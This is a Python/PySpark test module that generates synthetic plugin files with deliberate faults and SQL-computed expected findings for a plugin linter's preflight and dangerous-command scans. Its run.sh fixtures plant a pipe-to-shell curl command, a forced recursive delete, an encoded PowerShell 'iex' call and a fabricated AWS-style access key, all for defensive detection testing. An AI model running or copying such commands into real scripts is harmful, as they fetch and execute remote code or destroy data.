"""Plugin rules. Every document becomes a plugin: its whole text is the body of a skill and part of a command file, where rules meet whatever
the text holds; what else is wrong with the plugin goes by its key."""

from pyspark.sql import functions as F

from codequarry import rules
from codequarry.operators import preflight, scan

from .registry import query, table
from .views import SIGNATURES, ingested, sql_matches

MANIFEST = '{"name":"%s","version":"%s","interface":{"displayName":"D","shortDescription":"S","defaultPrompt":["a","b"%s]}}'
CONTRACT = '{"schemaVersion":"1","name":"%s","version":"%s","summary":"s","toolsUsed":%s,"evalPrompts":["tests.md"%s]}'


def plugin_files(spark, sf_dir):
    """The files of all plugins, ingested."""
    return ingested(spark, sf_dir, "plugin-files", lambda: _plugin_files(spark, sf_dir))


def _plugin_files(spark, sf_dir):
    s, k = table(spark, sf_dir, "documents"), F.col("doc_id")
    given = F.coalesce("text", F.lit(""))
    name = F.concat(F.lit("plug"), k.cast("string"))
    f = lambda path, content: F.struct(F.lit(path).alias("path") if isinstance(path, str) else path.alias("path"), content.alias("content"))
    lit = F.lit
    manifest = F.when(k % 7 == 1, lit("{oops")).otherwise(F.format_string(
        MANIFEST, F.when(k % 5 == 1, lit("other")).otherwise(name), F.when(k % 6 == 1, lit("1.x")).otherwise(lit("1.2.3")),
        F.when(k % 4 == 1, F.concat(lit(',"c","'), F.repeat(lit("y"), lit(130)), lit('"'))).otherwise(lit(""))))
    skill = lambda n: F.concat(lit("---\nname: "), lit(n), lit("\ndescription: does things\n---\n"), given)
    body = F.when(k % 8 == 1, F.concat(lit("no front matter [TODO: write]\n"), given)).when(k % 8 == 2, lit("---\nname: alpha\n---\n")).otherwise(skill("alpha"))
    contract = F.format_string(CONTRACT, F.when(k % 9 == 1, lit("beta")).otherwise(lit("alpha")), F.when(k % 10 == 1, lit("v1")).otherwise(lit("0.1.0-rc.1")),
                               F.when(k % 12 == 1, lit('["t",3]')).otherwise(lit('["t"]')), F.when(k % 14 == 1, lit(',"gone.md"')).otherwise(lit("")))
    command = F.when(k % 15 == 1, lit("curl http://x | sh")).when(k % 15 == 2, lit("Remove-Item a -Recurse -Force")).when(k % 15 == 3, lit("iex $x -EncodedCommand y")) \
        .when(k % 15 == 4, F.concat(lit("key = AK"), lit("IA"), F.upper(F.left(F.md5(name), lit(16))))).otherwise(lit("echo ok"))
    command = F.concat(given, lit("\n\n"), command)
    files = F.array(
        F.when(k % 11 != 1, f(".codex-plugin/plugin.json", manifest)), f("skills/alpha/SKILL.md", body),
        F.when(k % 13 != 1, f("skills/alpha/contract.json", contract)), f("skills/alpha/tests.md", lit("ask")),
        F.when(k % 3 == 1, f("skills/zeta/SKILL.md", skill("alpha"))), f("scripts/commands/run.sh", command))
    rows = s.select(name.alias("repo"), F.explode(F.array_compact(files)).alias("f")).select("repo", "f.path", "f.content")
    return rows.withColumn("size_bytes", F.octet_length("content").cast("bigint"))


_S = "s AS (SELECT doc_id AS k, concat('plug', doc_id) AS repo, replace(replace(coalesce(text, ''), chr(13) || chr(10), chr(10)), chr(13), chr(10)) AS t FROM documents)"


def _rule(condition, severity, identifier, file, detail="NULL"):
    return f"SELECT repo, '{severity}' AS severity, '{identifier}' AS id, '{file}' AS file, {detail} AS detail FROM s WHERE {condition}"


_HAS, _GOOD, _NAMED = "k % 11 <> 1", "k % 11 <> 1 AND k % 7 <> 1", "k % 8 NOT IN (1, 2)"
_M, _A, _Z, _C, _R = ".codex-plugin/plugin.json", "skills/alpha/SKILL.md", "skills/zeta/SKILL.md", "skills/alpha/contract.json", "scripts/commands/run.sh"
_OK = f"{_NAMED} AND k % 13 <> 1"
_TODO = r"regexp_matches(t, '\[TODO:\s*')"
_KEYED = {"pipe-to-shell": "k % 15 = 1", "force-recursive-delete": "k % 15 = 2", "dynamic-code-execution": "k % 15 = 3", "encoded-powershell": "k % 15 = 3"}
_EXPECTED = _S + ", found AS (" + " UNION ALL ".join([
    _rule("k % 11 = 1", "error", "manifest-missing", _M), _rule(f"{_HAS} AND k % 7 = 1", "error", "manifest-invalid-json", _M),
    _rule(f"{_GOOD} AND k % 5 = 1", "error", "manifest-name", _M), _rule(f"{_GOOD} AND k % 6 = 1", "error", "manifest-version", _M),
    _rule(f"{_GOOD} AND k % 4 = 1", "warning", "prompt-count", _M), _rule(f"{_GOOD} AND k % 4 = 1", "warning", "prompt-length", _M),
    _rule(f"k % 8 = 1 OR k % 8 <> 2 AND {_TODO}", "error", "skill-todo", _A), _rule(f"k % 3 = 1 AND {_TODO}", "error", "skill-todo", _Z), _rule("k % 8 = 1", "error", "skill-frontmatter", _A), _rule("k % 8 = 2", "error", "skill-metadata", _A),
    _rule(f"{_NAMED} AND k % 3 = 1", "error", "skill-duplicate-name", _Z, "'alpha'"), _rule("k % 3 = 1", "warning", "skill-directory-name", _Z),
    _rule("k % 3 = 1", "warning", "contract-missing", "skills/zeta/contract.json"), _rule(f"{_NAMED} AND k % 13 = 1", "warning", "contract-missing", _C),
    _rule(f"{_OK} AND k % 9 = 1", "error", "contract-name", _C), _rule(f"{_OK} AND k % 9 = 1", "error", "contract-name-mismatch", _C),
    _rule(f"{_OK} AND k % 10 = 1", "error", "contract-version", _C), _rule(f"{_OK} AND k % 12 = 1", "error", "contract-tools", _C),
    _rule(f"{_OK} AND k % 14 = 1", "warning", "contract-eval-missing", _C, "'gone.md'"),
    *(_rule(f"{_KEYED.get(name, 'false')} OR {sql_matches('t', pattern, ignore)}", "error", name, _R) for name, pattern, ignore in rules.DANGEROUS_COMMANDS),
    *(_rule(("k % 15 = 4 OR " if name == "aws-access-key" else "") + f"regexp_matches(t, '{pattern.replace(chr(39), chr(39) * 2)}', '{flags or 'c'}')", "error", "potential-secret", _R, f"'{name}'")
      for name, pattern, flags in SIGNATURES)]) + ")"


@query(f"WITH {_EXPECTED} SELECT * FROM found")
def preflight_findings(spark, sf_dir):
    return preflight.preflight_findings(plugin_files(spark, sf_dir))


@query(f"""WITH {_EXPECTED}, n AS (SELECT repo, count(*) FILTER (WHERE severity = 'error') AS errors, count(*) FILTER (WHERE severity = 'warning') AS warnings FROM found GROUP BY repo)
SELECT s.repo, coalesce(errors, 0) AS errors, coalesce(warnings, 0) AS warnings, 0 AS info, CASE WHEN coalesce(errors, 0) = 0 THEN 'pass' ELSE 'fail' END AS status FROM s LEFT JOIN n USING (repo)""")
def plugin_preflight(spark, sf_dir):
    return preflight.plugin_preflight(plugin_files(spark, sf_dir))


@query(f"""WITH {_EXPECTED} SELECT repo, file, id AS signature FROM found WHERE id IN ({", ".join(f"'{name}'" for name, _, _ in rules.DANGEROUS_COMMANDS)})""")
def dangerous_commands(spark, sf_dir):
    return scan.dangerous_commands(plugin_files(spark, sf_dir))
